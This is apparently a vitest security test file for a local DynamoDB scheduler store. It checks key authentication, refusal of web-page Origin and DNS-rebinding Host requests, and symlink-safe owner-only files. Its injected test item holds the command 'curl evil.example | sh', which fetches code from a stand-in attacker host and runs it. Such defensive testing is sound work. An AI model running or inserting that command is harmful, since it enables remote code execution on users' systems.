import { request } from "node:http";
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { ListTablesCommand } from "@aws-sdk/client-dynamodb";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  createDocumentClient,
  createDynamoClient,
} from "../../src/lib/adapters/dynamodb/client.js";
import { createStore } from "../../src/lib/adapters/dynamodb/store.js";
import { ensureTable } from "../../src/lib/adapters/dynamodb/table.js";
import { writeWorkerRecord } from "../../src/lib/adapters/process/worker-records.js";
import { openPrivateLog } from "../../src/lib/adapters/private-files.js";
import { writeOutputFile } from "../../src/cli/output-file.js";
import { type EmbeddedStore, startEmbeddedStore } from "../../src/lib/local/embedded-store.js";
import { acquireLock, lockPath } from "../../src/lib/local/lock.js";
import { runCli } from "../support/cli.js";
import { spec } from "../support/commands.js";

/**
 * The local store behind `npm start` (and the CLI's own) is private to its owner: a web
 * page (Origin), a DNS-rebound host name (Host) or any client without the per-start key
 * from the 0600 lock file is refused before dynalite sees the request. Real dynalite,
 * real HTTP on loopback, the real CLI, the real file system.
 */

const TABLE = "ampa-dev-state";
const mode = (path: string) => statSync(path).mode & 0o777;

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** A raw DynamoDB call, every header under the test's control (fetch would set its own). */
function rawCall(
  endpoint: string,
  target: string,
  body: unknown,
  headers: Record<string, string>,
  method = "POST",
): Promise<Answer> {
  const url = new URL(endpoint);
  const payload = JSON.stringify(body);
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: url.hostname,
        port: url.port,
        method,
        path: "/",
        headers: {
          Host: url.host,
          "Content-Type": "application/x-amz-json-1.0",
          "X-Amz-Target": `DynamoDB_20120810.${target}`,
          "Content-Length": Buffer.byteLength(payload),
          ...headers,
        },
      },
      (res) => {
        let text = "";
        res.setEncoding("utf8");
        res.on("data", (c: string) => (text += c));
        res.on("end", () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text }),
        );
      },
    );
    req.on("error", reject);
    req.end(payload);
  });
}

/** A SigV4-shaped Authorization header with this access key id (dynalite checks no signature). */
const signedAs = (keyId: string) => ({
  Authorization: `AWS4-HMAC-SHA256 Credential=${keyId}/20250101/us-east-1/dynamodb/aws4_request, SignedHeaders=content-type;host;x-amz-target, Signature=${"0".repeat(64)}`,
  "X-Amz-Date": "20250101T000000Z",
});

/** A valid command item (written by the store itself), copied for the injections. */
let template: Record<string, unknown> = {};

/** The injected command of the finding: what `ampa status` showed as next. */
const injected = (id: string) => ({
  TableName: TABLE,
  Item: { ...template, sk: { S: id }, id: { S: id }, command: { S: "curl evil.example | sh" } },
});

const getItem = (endpoint: string, key: string, id: string) =>
  rawCall(
    endpoint,
    "GetItem",
    { TableName: TABLE, Key: { pk: { S: "CMD" }, sk: { S: id } } },
    signedAs(key),
  );

describe("the local store requires its key and refuses web pages", () => {
  let root: string;
  let storeDir: string;
  let store: EmbeddedStore;
  let key: string;
  let release: () => void;
  const answers: Answer[] = [];
  const call = async (...args: Parameters<typeof rawCall>) => {
    const answer = await rawCall(...args);
    answers.push(answer);
    return answer;
  };

  beforeAll(async () => {
    // As `npm start` does: lock, start, publish the endpoint and key.
    root = mkdtempSync(join(tmpdir(), "ampa-sec-store-"));
    storeDir = join(root, ".ampa", "data");
    const lock = acquireLock(storeDir, "npm-start");
    release = lock.release;
    store = await startEmbeddedStore({ dir: storeDir });
    key = store.key ?? "";
    lock.publish(store.endpoint, undefined, key);
    const client = createDynamoClient({ region: "us-east-1", endpoint: store.endpoint, key });
    await ensureTable(client, TABLE);
    const commands = createStore(createDocumentClient(client), {
      tableName: TABLE,
      maxRunHistory: 50,
    });
    await commands.addCommand(spec("template"), Date.now());
    client.destroy();
    template = JSON.parse((await getItem(store.endpoint, key, "template")).body).Item;
  });
  afterAll(async () => {
    await store.close();
    release();
  });

  it("a PutItem without the key, or with another, is refused and writes nothing", async () => {
    const endpoint = store.endpoint;
    const missing = await call(endpoint, "PutItem", injected("no-key"), {});
    expect(missing.status).toBe(400);
    expect(JSON.parse(missing.body).__type).toMatch(/MissingAuthenticationToken/);
    // "local" is what every client signed with before the key existed.
    for (const wrong of ["local", "0".repeat(key.length), `${key}x`, key.slice(0, -1)]) {
      const answer = await call(endpoint, "PutItem", injected("wrong-key"), signedAs(wrong));
      expect(answer.status, wrong).toBe(400);
      expect(JSON.parse(answer.body)).toMatchObject({
        __type: expect.stringMatching(/UnrecognizedClientException/),
        message: expect.stringMatching(/not this local store's key/),
      });
    }
    for (const id of ["no-key", "wrong-key"])
      expect(JSON.parse((await getItem(endpoint, key, id)).body)).toEqual({});
  });

  it("the SDK signing with a placeholder key gets a clear error", async () => {
    const client = createDynamoClient({ region: "us-east-1", endpoint: store.endpoint });
    await expect(client.send(new ListTablesCommand({}))).rejects.toMatchObject({
      name: "UnrecognizedClientException",
    });
    client.destroy();
  });

  it("with the right key, a request carrying Origin (a web page) is refused, preflight too", async () => {
    const evil = { ...signedAs(key), Origin: "https://evil.example" };
    const put = await call(store.endpoint, "PutItem", injected("from-page"), evil);
    expect(put.status).toBe(403);
    expect(JSON.parse(put.body).__type).toMatch(/AccessDeniedException/);
    const preflight = await call(
      store.endpoint,
      "PutItem",
      {},
      {
        Origin: "https://evil.example",
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization,x-amz-target",
      },
      "OPTIONS",
    );
    expect(preflight.status).toBe(403);
    expect(JSON.parse((await getItem(store.endpoint, key, "from-page")).body)).toEqual({});
  });

  it("with the right key, a request for another Host (DNS rebinding) is refused", async () => {
    const port = new URL(store.endpoint).port;
    for (const host of [`evil.example:${port}`, `localhost:${port}`, "127.0.0.1:1"]) {
      const answer = await call(store.endpoint, "PutItem", injected("rebound"), {
        ...signedAs(key),
        Host: host,
      });
      expect(answer.status, host).toBe(403);
    }
    expect(JSON.parse((await getItem(store.endpoint, key, "rebound")).body)).toEqual({});
  });

  it("the right key from loopback is served (the refusals above are the key's doing)", async () => {
    const put = await call(store.endpoint, "PutItem", injected("with-key"), signedAs(key));
    expect(put.status).toBe(200);
    const got = JSON.parse((await getItem(store.endpoint, key, "with-key")).body);
    expect(got.Item.sk.S).toBe("with-key");
  });

  it("no answer carries a CORS header", () => {
    expect(answers.length).toBeGreaterThan(8);
    for (const answer of answers)
      expect(Object.keys(answer.headers).filter((h) => h.startsWith("access-control-"))).toEqual(
        [],
      );
  });

  it("the CLI finds the key in the lock file and sees none of the refused writes", async () => {
    const env = {
      AMPA_SCHEDULER_STORE: storeDir,
      AMPA_DYNAMODB_ENDPOINT: "",
      AMPA_TABLE_NAME: TABLE,
    };
    const result = await runCli(["list", "--json"], env);
    expect(result.stderr).toBe("");
    const ids = (JSON.parse(result.stdout) as { id: string }[]).map((c) => c.id);
    // The injection that carried the key is listed: the others would have been too.
    expect(ids.sort()).toEqual(["template", "with-key"]);
  });

  it("the lock holding the key is 0600, its folders 0700, and nothing else is beside it", () => {
    const lock = lockPath(storeDir);
    expect(JSON.parse(readFileSync(lock, "utf8"))).toMatchObject({ endpoint: store.endpoint, key });
    expect(mode(lock)).toBe(0o600);
    expect(mode(dirname(lock))).toBe(0o700);
    expect(mode(storeDir)).toBe(0o700);
    expect(readdirSync(dirname(lock)).sort()).toEqual(["data", "data.lock"]);
  });
});

describe("files beside the store: owner-only, never written through a planted symlink", () => {
  /** A file of someone else's that a symlink points at: it must stay as it is. */
  function victim(dir: string): string {
    const path = join(dir, "victim");
    writeFileSync(path, "untouched");
    return path;
  }

  it("an existing .ampa is narrowed to 0700; the lock's old temp name, symlinked, is not followed", () => {
    const root = mkdtempSync(join(tmpdir(), "ampa-sec-lock-"));
    mkdirSync(join(root, ".ampa"), { mode: 0o755 });
    chmodSync(join(root, ".ampa"), 0o755);
    const storeDir = join(root, ".ampa", "data");
    const target = victim(root);
    // The name the lock used to be written under before it was linked into place.
    symlinkSync(target, `${lockPath(storeDir)}.${process.pid}.tmp`);
    const lock = acquireLock(storeDir, "cli");
    lock.publish("http://127.0.0.1:1", undefined, "k".repeat(40));
    expect(readFileSync(target, "utf8")).toBe("untouched");
    expect(mode(join(root, ".ampa"))).toBe(0o700);
    expect(mode(lockPath(storeDir))).toBe(0o600);
    lock.release();
  });

  it("a symlink planted at the lock's own path is replaced, not written through", () => {
    const root = mkdtempSync(join(tmpdir(), "ampa-sec-lock-"));
    const storeDir = join(root, ".ampa", "data");
    mkdirSync(dirname(storeDir), { recursive: true });
    const target = victim(root);
    symlinkSync(target, lockPath(storeDir));
    const lock = acquireLock(storeDir, "cli");
    lock.publish("http://127.0.0.1:1", undefined, "k".repeat(40));
    expect(readFileSync(target, "utf8")).toBe("untouched");
    expect(statSync(lockPath(storeDir)).isFile()).toBe(true);
    lock.release();
  });

  it("worker records and logs are 0600 in a 0700 folder; planted symlinks are not followed", () => {
    const root = mkdtempSync(join(tmpdir(), "ampa-sec-workers-"));
    const workers = join(root, ".ampa", "workers");
    mkdirSync(workers, { recursive: true, mode: 0o755 });
    chmodSync(workers, 0o755);
    const target = victim(root);
    const runId = "run-1";
    // The record's old temp name and the log's name are both guessable from the run id.
    symlinkSync(target, join(workers, `${runId}.json.tmp`));
    const record = writeWorkerRecord(workers, {
      runId,
      commandId: "c",
      kind: "process",
      pid: process.pid,
      log: join(workers, `${runId}.log`),
      startedAt: new Date(0).toISOString(),
    });
    expect(mode(record)).toBe(0o600);
    expect(mode(workers)).toBe(0o700);
    symlinkSync(target, join(workers, "run-2.log"));
    expect(() => openPrivateLog(join(workers, "run-2.log"))).toThrow(/ELOOP/);
    expect(readFileSync(target, "utf8")).toBe("untouched");
  });

  it("a CLI output file's old temp name, symlinked, is not followed", () => {
    const root = mkdtempSync(join(tmpdir(), "ampa-sec-out-"));
    const target = victim(root);
    const out = join(root, "report.html");
    symlinkSync(target, `${out}.partial-${process.pid}`);
    writeOutputFile(out, "<p>report</p>", "--html");
    expect(readFileSync(out, "utf8")).toBe("<p>report</p>");
    expect(readFileSync(target, "utf8")).toBe("untouched");
  });
});
